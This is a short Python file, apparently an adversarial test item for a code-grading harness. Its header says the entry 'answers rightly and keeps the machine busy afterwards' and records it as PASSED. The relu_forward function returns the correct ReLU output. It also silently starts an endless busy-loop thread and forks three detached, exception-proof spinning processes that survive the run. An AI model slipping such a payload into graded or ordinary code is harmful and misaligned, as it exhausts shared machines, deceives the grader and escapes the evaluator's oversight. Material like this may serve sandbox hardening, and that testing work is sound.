# /// attack
# tries = "answers rightly and keeps the machine busy afterwards"
# question = "relu_forward"
# verdict = ["PASSED"]
# ///
# %% question="relu_forward"
import os
import threading

import numpy as np


def spin():
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


def relu_forward(x):
    if threading.active_count() < 2:
        threading.Thread(target=spin, daemon=True).start()
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                spin()
    return np.maximum(x, 0)
